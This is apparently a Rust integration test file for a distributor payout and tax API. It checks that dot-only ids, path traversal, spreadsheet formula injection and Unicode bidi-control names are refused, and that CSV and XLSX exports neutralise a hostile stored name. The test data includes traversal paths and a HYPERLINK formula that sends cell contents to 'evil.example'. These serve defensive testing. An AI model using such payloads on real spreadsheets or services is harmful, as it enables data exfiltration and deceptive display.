//! Names and ids that would be unsafe to show or to open (issue 17, item 4):
//! ids `.` and `..` are refused wherever an id comes in; real names and
//! distributor names that a spreadsheet would run or a screen would reorder
//! are refused with the field; and a declaration whose stored name is hostile
//! (written past the API, as an old row could be) still opens safely.

use calamine::{Data, Reader, Xlsx};
use fenrun::vault::credentials::identity_aad;
use secrecy::SecretString;
use serde_json::{Value, json};

use crate::certificates::certified_payout;
use crate::credentials::vault_of;
use crate::helpers::{Backend, TEST_MASTER_KEY, error_of, spawn_app};
use crate::on_both_backends;
use crate::withdrawals::{id_number, spawn};

on_both_backends!(
    ids_made_of_dots_are_refused_wherever_ids_come_in,
    names_a_spreadsheet_would_run_or_a_screen_would_reorder_are_refused,
    a_declaration_with_a_hostile_stored_name_opens_safely,
);

async fn ids_made_of_dots_are_refused_wherever_ids_come_in(backend: Backend) {
    let app = spawn_app(backend).await;
    for id in [".", ".."] {
        let error = error_of(
            app.post_json(
                "/v1/distributors",
                &app.ingest,
                &json!({"id": id, "name": "dots"}),
            )
            .await,
            400,
        )
        .await;
        assert_eq!(error["field"], "id", "{id}");
    }
    // In a path: sent as raw HTTP, because a URL library folds `..` (even
    // `%2E%2E`) away before sending, as a proxy might not.
    for path in ["/v1/distributors/..", "/v1/distributors/%2E%2E/balance"] {
        let head = raw_get(&app.address, path, &app.ops).await;
        assert!(
            head.starts_with("HTTP/1.1 400") && head.contains("invalid_id"),
            "{path}: {head}"
        );
    }

    app.create_distributor("seller", None, None).await;
    let confirmed_at = chrono::Utc::now() - chrono::Duration::hours(1);
    let placed_at = confirmed_at - chrono::Duration::days(2);
    let order = |order_id: &str, buyer: &str, sku: &str| {
        json!({
            "order_id": order_id, "distributor_id": "seller", "buyer_id": buyer,
            "placed_at": placed_at.to_rfc3339(), "confirmed_at": confirmed_at.to_rfc3339(),
            "items": [{"sku": sku, "category": "tea", "amount": "10.00"}],
        })
    };
    for (body, field) in [
        (order("..", "buyer", "sku-1"), "order_id"),
        (order("o-1", ".", "sku-1"), "buyer_id"),
        (order("o-1", "buyer", ".."), "items[0].sku"),
    ] {
        let error = error_of(app.post_json("/v1/orders", &app.ingest, &body).await, 400).await;
        assert_eq!(error["field"], field, "{body}");
    }
    let response = app
        .post_json("/v1/orders", &app.ingest, &order("o-1", "buyer", "sku-1"))
        .await;
    assert_eq!(response.status(), 202);
    let error = error_of(
        app.post_json(
            "/v1/orders/o-1/refunds",
            &app.ingest,
            &json!({"refund_id": "..", "amount": "1.00"}),
        )
        .await,
        400,
    )
    .await;
    assert_eq!(error["field"], "refund_id");
    let order: Value = app
        .get("/v1/orders/o-1", &app.ops)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(order["refunded"], "0.00");
}

/// A GET written by hand on a fresh connection; the whole answer as text.
async fn raw_get(address: &str, path: &str, token: &str) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let host = address.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(host).await.unwrap();
    let request = format!(
        "GET {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {token}\r\nConnection: close\r\n\r\n"
    );
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).await.unwrap();
    String::from_utf8_lossy(&answer).into_owned()
}

async fn names_a_spreadsheet_would_run_or_a_screen_would_reorder_are_refused(backend: Backend) {
    let app = spawn_app(backend).await;
    for name in [
        "=HYPERLINK(\"http://evil\",\"x\")",
        "+1",
        "-1",
        "@SUM(A1)",
        "小\u{202E}明",
        "小\u{2067}明",
        "小\u{200B}明",
        "小\u{FEFF}明",
    ] {
        let error = error_of(
            app.post_json(
                "/v1/distributors",
                &app.ingest,
                &json!({"id": "nick", "name": name}),
            )
            .await,
            422,
        )
        .await;
        assert_eq!(
            (error["code"].as_str(), error["field"].as_str()),
            (Some("invalid_name"), Some("name")),
            "{name:?}"
        );
    }
    assert_eq!(
        app.get("/v1/distributors/nick", &app.ops).await.status(),
        404
    );

    app.create_distributor("nick", None, None).await;
    for real_name in [
        "=1+1",
        "+86",
        "-张三",
        "@张三",
        "\t=1+1",
        "张\u{202D}三",
        "张\u{200E}三",
        "张\u{2060}三",
    ] {
        let error = error_of(
            app.put_json(
                "/v1/distributors/nick/identity",
                &app.ingest,
                &json!({"real_name": real_name, "id_number": id_number("11010119900307123")}),
            )
            .await,
            422,
        )
        .await;
        assert_eq!(
            (error["code"].as_str(), error["field"].as_str()),
            (Some("invalid_real_name"), Some("real_name")),
            "{real_name:?}"
        );
    }
    let profile: Value = app
        .get("/v1/distributors/nick", &app.ops)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(profile["identity"], Value::Null);
}

async fn a_declaration_with_a_hostile_stored_name_opens_safely(backend: Backend) {
    let app = spawn(backend).await;
    let (_, withdrawal, _) = certified_payout(&app, "mallory").await;
    let month = withdrawal["tax_month"].as_str().unwrap().to_owned();

    // A name the API now refuses, written as a row from before the rule
    // could hold it: sealed like any identity, straight into the store.
    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"李四\")";
    let vault = vault_of(&[TEST_MASTER_KEY]);
    let mallory = fenrun::domain::ids::DistributorId::parse("mallory").unwrap();
    let mut identity = app.store.identity(&mallory).await.unwrap().unwrap();
    identity.real_name = vault
        .seal(
            &SecretString::from(hostile),
            &identity_aad("real_name", &mallory),
        )
        .unwrap()
        .to_stored();
    app.store.upsert_identity(&identity).await.unwrap();

    let response = app
        .get(
            &format!("/v1/tax/declarations/{month}.csv"),
            &app.accountant,
        )
        .await;
    assert_eq!(response.status(), 200);
    let csv = response.text().await.unwrap();
    let row = csv
        .lines()
        .find(|line| line.starts_with("mallory,"))
        .unwrap_or_else(|| panic!("no row for mallory in {csv}"));
    assert!(
        row.starts_with(
            "mallory,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"李四\"\")\",居民身份证,"
        ),
        "{row}"
    );

    let response = app
        .get(
            &format!("/v1/tax/declarations/{month}.xlsx"),
            &app.accountant,
        )
        .await;
    assert_eq!(response.status(), 200);
    let bytes = response.bytes().await.unwrap().to_vec();
    let mut workbook = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let range = workbook.worksheet_range(&month).unwrap();
    let names: Vec<&Data> = range.rows().map(|cells| &cells[1]).collect();
    assert!(
        names.contains(&&Data::String(hostile.to_owned())),
        "{names:?}"
    );
    let formulas = workbook.worksheet_formula(&month).unwrap();
    assert!(
        formulas
            .used_cells()
            .all(|(_, _, formula)| formula.is_empty())
    );
}
